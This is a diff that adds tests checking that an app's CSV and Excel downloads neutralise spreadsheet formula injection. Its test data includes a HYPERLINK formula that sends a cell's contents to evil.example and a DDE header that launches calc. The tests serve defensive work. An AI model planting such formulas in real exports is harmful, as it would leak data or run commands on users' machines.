@@ -56,3 +56,64 @@ def test_row_limit_warns_instead_of_silently_cutting(monkeypatch):
     book = openpyxl.load_workbook(io.BytesIO(data))
     assert book["cohorts"].max_row == 10  # title + header + 8 rows
     assert EXCEL_MAX_ROWS == 1_048_576
+
+
+# ----------------------------------------------------------- CSV downloads (OWASP CSV injection)
+
+def test_csv_download_neutralises_formulas_and_headers_and_keeps_numbers():
+    import csv
+
+    from lib.export import csv_bytes
+
+    frame = pd.DataFrame({
+        "comment": ['=HYPERLINK("http://evil.example/?leak="&B3,"Help")', "+1 great", "-2 bad", "@SUM(A1)",
+                    "\tcmd", "\rcmd", "fine\r=1+1", None],
+        "=cmd|' /C calc'!A0": ["a", "b", "c", "d", "e", "f", "g", "h"],     # a header from the file
+        "score": [-5, 3, -1, 0, 10, 2, 7, 9],                              # numbers stay numbers
+        "delta": [-0.25, 0.5, -1.5, 0.0, 1.0, 2.0, 3.0, float("nan")],
+        "segment": pd.Categorical(["=1+1", "ok", "ok", "ok", "ok", "ok", "ok", "ok"]),
+    })
+    rows = list(csv.reader(io.StringIO(csv_bytes(frame).decode("utf-8"), newline="")))
+    assert rows[0] == ["comment", "'=cmd|' /C calc'!A0", "score", "delta", "segment"]
+    assert [r[0] for r in rows[1:]] == ["'=HYPERLINK(\"http://evil.example/?leak=\"&B3,\"Help\")", "'+1 great",
+                                         "'-2 bad", "'@SUM(A1)", "'\tcmd", "'\rcmd", "fine\r=1+1", ""]
+    assert [r[2] for r in rows[1:]] == ["-5", "3", "-1", "0", "10", "2", "7", "9"]  # -5 is not prefixed
+    assert rows[1][3] == "-0.25" and rows[8][3] == ""
+    assert rows[1][4] == "'=1+1"
+    assert frame.columns[1] == "=cmd|' /C calc'!A0"  # the caller's frame is not changed
+    # a CR inside a cell is quoted (CRLF line ends), so "=1+1" cannot start a row of its own
+    assert b'"fine\r=1+1"' in csv_bytes(frame)
+
+
+def test_workbook_headers_are_neutralised_too():
+    frame = pd.DataFrame({"=HYPERLINK(\"http://x\")": ["a"], "-total": [1]})
+    data, _ = build_workbook({"nps": {"Comments": frame}}, pd.DataFrame(), Thresholds())
+    sheet = openpyxl.load_workbook(io.BytesIO(data))["nps"]
+    assert [c.value for c in sheet[2]] == ["'=HYPERLINK(\"http://x\")", "'-total"]
+    assert sheet["B3"].value == 1
+
+
+def test_nps_page_comments_download_is_neutralised(monkeypatch):
+    """The reported case: a customer's comment with a formula, downloaded as nps_comments.csv."""
+    import streamlit
+
+    from tests.apptest import fresh_app
+
+    downloads: dict[str, bytes] = {}
+    real = streamlit.download_button
+
+    def capture(label, data, file_name=None, *args, **kwargs):
+        downloads[file_name] = data
+        return real(label, data, file_name, *args, **kwargs)
+
+    monkeypatch.setattr(streamlit, "download_button", capture)
+    survey = ("Date,Email,Score,Comment\n"
+              "2025-01-06,a@x.example,2,\"=HYPERLINK(\"\"http://evil.example/?leak=\"\"&B3,\"\"Click\"\")\"\n"
+              "2025-01-07,b@x.example,3,too many emails\n"
+              "2025-01-08,c@x.example,10,love it\n").encode()
+    at = fresh_app()
+    at.switch_page("app_pages/nps.py").run()
+    at.file_uploader(key="upload_nps").set_value(("survey.csv", survey, "text/csv")).run()
+    assert not at.exception, at.exception
+    text = downloads["nps_comments.csv"].decode("utf-8")
+    assert "'=HYPERLINK(" in text and ",=HYPERLINK(" not in text and "\"=HYPERLINK(" not in text
